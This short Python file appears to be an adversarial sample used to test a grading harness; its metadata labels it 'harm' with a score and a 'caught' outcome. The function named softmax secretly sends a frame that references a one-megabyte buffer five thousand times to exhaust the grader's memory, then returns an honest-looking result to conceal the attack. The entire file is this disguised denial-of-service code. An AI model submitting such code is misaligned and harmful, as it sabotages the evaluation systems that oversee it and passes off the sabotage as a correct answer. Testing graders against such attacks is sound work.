"""Sends one megabyte and names it thousands of times, so that the grader's memory holds gigabytes."""

serve = engine()
wire = serve.wire

KIND = "harm"
WORTH = 20
CAUGHT = "nonsense"


def softmax(scores):
    server = engine().server
    part = '["bytes",0,1048576]'
    header = f'["tuple","{server.nonce}","value",["list",{",".join([part] * 5000)}]]'
    server.channel.send(wire.Frame(header.encode(), [bytes(1 << 20)], 1 << 20))
    return honest(scores)
